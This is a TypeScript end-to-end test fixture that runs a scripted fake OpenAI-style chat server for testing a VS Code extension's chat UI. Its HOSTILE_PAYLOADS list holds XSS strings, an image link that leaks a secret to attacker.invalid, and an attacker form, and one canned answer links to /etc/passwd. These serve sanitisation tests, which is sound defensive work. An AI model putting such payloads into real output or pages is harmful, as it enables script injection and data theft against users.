/**
 * The scripted model for the chat e2e cases: a local server speaking the OpenAI Chat Completions wire (the same
 * adapter as the provider wire tests, test/providers/openaiWire.ts), which the extension under test reaches
 * through `atmosAi.providers.openai.baseUrl` in the temp workspace's .vscode/settings.json.
 *
 * What it answers depends on a tag in the user's last question:
 *   [where]   calls atmos_where for vpc in plat-ue2-dev, then echoes the tool result it receives ("The engine says: …"),
 *             or, when the result is a denial, says so ("The tool call was denied …")
 *   [write]   calls file_write (restricted by default: an approval with a diff), then reports the result
 *   [slow]    streams a long answer slowly (for Stop)
 *   [mention] says which component context arrived with the question (@ mentions)
 *   [hostile] answers with hostile markdown/HTML (script tags, event handlers, javascript: links, svg, iframes)
 *   [think]   streams reasoning (`reasoning_content` deltas, some with HTML in them) before the answer, which starts
 *             after a pause (so the open "Thinking…" block can be seen)
 *   [nousage] answers without a usage frame (as a provider that reports no usage)
 *   otherwise a short greeting.
 * The server and its sockets are unref'd, so a run that skips the closing case still exits.
 */
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { respond, sse, type ScriptedResponse, type SseFrame } from '../../providers/fakeServer';
import { openaiWire } from '../../providers/openaiWire';

export const WHERE_ARGS = { component: 'vpc', stack: 'plat-ue2-dev', path: 'vars.ipv4_primary_cidr_block' };
export const SLOW_WORDS = 400;
export const WRITE_ARGS = { path: 'stacks/catalog/vpc/NOTES.md', content: '# VPC notes\n\nThe primary CIDR of plat-ue2-dev is 10.110.0.0/16.\n' };

export const HOSTILE_PAYLOADS = [
  '<script>window.__pwned = "script"</script>',
  '<img src=x onerror="window.__pwned = \'img\'">',
  '[click me](javascript:window.__pwned=\'link\')',
  '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
  '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe>',
  '<a href="javascript:window.__pwned=\'a\'">anchor</a>',
  '<details open ontoggle="window.__pwned = \'details\'">x</details>',
  '![tracker](https://attacker.invalid/leak.png?q=secret)',
  '<style>body { display: none }</style>',
  '<form action="https://attacker.invalid"><input name=q></form>',
];

export const HOSTILE_ANSWER = ['Here are some payloads:', '', ...HOSTILE_PAYLOADS.map((p) => `- ${p}`), '', 'Inline: <b onmouseover="window.__pwned=\'b\'">bold</b> end.'].join('\n');

interface Seen {
  path: string;
  lastUserText: string;
  /** The system prompt (the agent's prompt and the shared rules). */
  system: string;
  toolResults: { content: string; isError: boolean }[];
  clientAborted: boolean;
}

export interface ScriptedProvider {
  url: string;
  /** Requests received (chat completions only). */
  seen: Seen[];
  close(): Promise<void>;
}

type Msg = { role: string; content?: unknown };

function lastUserText(body: { messages?: Msg[] }): string {
  const users = (body.messages ?? []).filter((m) => m.role === 'user');
  const last = users[users.length - 1];
  if (!last) return '';
  if (typeof last.content === 'string') return last.content;
  if (Array.isArray(last.content)) return last.content.map((p: { text?: string }) => p.text ?? '').join('');
  return '';
}

function systemText(body: { messages?: Msg[] }): string {
  return (body.messages ?? [])
    .filter((m) => m.role === 'system' || m.role === 'developer')
    .map((m) => (typeof m.content === 'string' ? m.content : Array.isArray(m.content) ? m.content.map((p: { text?: string }) => p.text ?? '').join('') : ''))
    .join('\n');
}

/** The value and the winning location from atmos_where's JSON result; the raw text when it is not that. */
function echo(content: string): string {
  try {
    const r = JSON.parse(content) as { path?: string; value?: unknown; set_by?: { location: string }[] };
    return `\`${String(r.path)}\` is **${String(r.value)}**, set at \`${r.set_by?.[0]?.location ?? '?'}\`.`;
  } catch {
    return content.slice(0, 200);
  }
}

/** Links a model might write: a workspace file at a line, and a file outside the workspace. */
export const LINK_ANSWER = 'It is set in [the dev defaults](stacks/orgs/acme/plat/dev/_defaults.yaml:21); compare [the password file](file:///etc/passwd).';

/** A whole workspace file in a code block (the path in the info string): Show diff and Apply. */
export const APPLY_FILE = { path: 'stacks/catalog/vpc/APPLIED.md', content: '# Applied from the chat\n\nThe dev CIDR is 10.110.0.0/16.\n' };
export const APPLY_ANSWER = `Here is the note:\n\n\`\`\`markdown path=${APPLY_FILE.path}\n${APPLY_FILE.content}\`\`\`\n`;

/** Reasoning the [think] answer streams first: plain text, so the tag must show as typed, never as markup. */
export const THINKING_DELTAS = ['The user asks where the CIDR is set. ', 'Check <b>stacks/orgs/acme/plat/dev</b> first; ', 'the catalog default is overridden there.'];
export const THINKING_ANSWER = 'The CIDR is set in the dev defaults, overriding the catalog.';
/** How long the [think] answer waits between its reasoning and its text. */
export const THINKING_PAUSE_MS = 2500;

function completionFrame(delta: Record<string, unknown>, finish: string | null = null, delayMs?: number): SseFrame {
  return {
    data: { id: 'chatcmpl-scripted', object: 'chat.completion.chunk', created: 1_700_000_000, model: 'scripted-model', choices: [{ index: 0, delta, finish_reason: finish, logprobs: null }] },
    ...(delayMs ? { delayMs } : {}),
  };
}

/** Reasoning deltas, a pause, then the answer; with a usage frame or (`usage` undefined) none at all. */
function scriptedText(reasoning: string[], text: string[], usage: { inputTokens: number; outputTokens: number } | undefined, pauseMs = 0): ScriptedResponse {
  const usageFrame: SseFrame[] = usage
    ? [{ data: { id: 'chatcmpl-scripted', object: 'chat.completion.chunk', created: 1_700_000_000, model: 'scripted-model', choices: [], usage: { prompt_tokens: usage.inputTokens, completion_tokens: usage.outputTokens, total_tokens: usage.inputTokens + usage.outputTokens } } }]
    : [];
  return sse([
    completionFrame({ role: 'assistant', content: '' }),
    ...reasoning.map((r) => completionFrame({ content: '', reasoning_content: r })),
    ...text.map((t, i) => completionFrame({ content: t }, null, i === 0 ? pauseMs : undefined)),
    completionFrame({}, 'stop'),
    ...usageFrame,
    { data: '[DONE]' },
  ]);
}

function words(text: string): string[] {
  return text.split(/(?<= )/);
}

function answer(body: { messages?: Msg[] }, req: Parameters<typeof openaiWire.toolResults>[0]): ScriptedResponse {
  const question = lastUserText(body);
  const results = openaiWire.toolResults(req);
  const usage = { inputTokens: 120, outputTokens: 30, cacheReadTokens: 40, cacheWriteTokens: 0 };
  if (question.includes('[where]')) {
    // The question is the last user message only until a tool result follows it.
    const lastRole = body.messages?.[body.messages.length - 1]?.role;
    if (lastRole !== 'tool') return openaiWire.toolCalls([{ id: `call_where_${Date.now()}`, name: 'atmos_where', argsChunks: [JSON.stringify(WHERE_ARGS).slice(0, 20), JSON.stringify(WHERE_ARGS).slice(20)] }]);
    const result = results[results.length - 1];
    const text = /denied/i.test(result.content)
      ? 'The tool call was denied, so I did not read the value. Tell me how you would like to proceed.'
      : `The engine says: ${echo(result.content)}`;
    return openaiWire.text(words(text), usage);
  }
  if (question.includes('[write]')) {
    const lastRole = body.messages?.[body.messages.length - 1]?.role;
    if (lastRole !== 'tool') return openaiWire.toolCalls([{ id: `call_write_${Date.now()}`, name: 'file_write', argsChunks: [JSON.stringify(WRITE_ARGS)] }]);
    const result = results[results.length - 1];
    return openaiWire.text(words(result.isError ? `The write did not happen: ${result.content.slice(0, 120)}` : `Written: ${result.content.split('\n')[0]}`), usage);
  }
  if (question.includes('[slow]')) {
    const text = Array.from({ length: SLOW_WORDS }, (_, i) => `word${i}`).join(' ');
    const response = openaiWire.text(words(text), usage);
    // Slow every chunk but the first few (role, first words) so the answer visibly streams.
    response.chunks = response.chunks?.map((c, i) => (i > 3 ? { ...c, delayMs: 60 } : c));
    return response;
  }
  if (question.includes('[mention]')) {
    const attached = /Component `[^`]+` \([^)]*\) is in \d+ stacks/.exec(question)?.[0];
    return openaiWire.text(words(attached ? `Context received: ${attached}.` : 'No context was attached.'), usage);
  }
  if (question.includes('[think]')) return scriptedText(THINKING_DELTAS, words(THINKING_ANSWER), usage, THINKING_PAUSE_MS);
  if (question.includes('[nousage]')) return scriptedText([], words('An answer without usage figures.'), undefined);
  if (question.includes('[hostile]')) return openaiWire.text(words(HOSTILE_ANSWER), usage);
  if (question.includes('[link]')) return openaiWire.text(words(LINK_ANSWER), usage);
  if (question.includes('[apply]')) return openaiWire.text(words(APPLY_ANSWER), usage);
  return openaiWire.text(words('Hello from the scripted provider.'), usage);
}

let running: Promise<ScriptedProvider> | undefined;

/** Starts the scripted provider once per e2e run. */
export function scriptedProvider(): Promise<ScriptedProvider> {
  running ??= start();
  return running;
}

async function start(): Promise<ScriptedProvider> {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    const parts: Buffer[] = [];
    req.on('data', (d: Buffer) => parts.push(d));
    req.on('end', () => {
      const url = new URL(req.url ?? '/', 'http://127.0.0.1');
      if (req.method === 'GET' && url.pathname.endsWith('/models')) {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ object: 'list', data: [{ id: 'scripted-model', object: 'model', created: 0, owned_by: 'e2e' }] }));
        return;
      }
      const raw = Buffer.concat(parts).toString('utf8');
      let body: { messages?: Msg[] };
      try {
        body = JSON.parse(raw) as { messages?: Msg[] };
      } catch {
        res.writeHead(400).end();
        return;
      }
      const recorded = { method: req.method ?? 'POST', url: req.url ?? '/', path: url.pathname, query: url.searchParams, headers: req.headers, body: raw, json: body, closed: Promise.resolve(), clientAborted: false };
      const entry: Seen = { path: url.pathname, lastUserText: lastUserText(body), system: systemText(body), toolResults: openaiWire.toolResults(recorded), clientAborted: false };
      seen.push(entry);
      res.on('close', () => {
        if (!res.writableFinished) entry.clientAborted = true;
      });
      void respond(res, answer(body, recorded));
    });
  });
  server.on('connection', (s) => s.unref());
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', resolve);
  });
  server.unref();
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/v1`,
    seen,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}
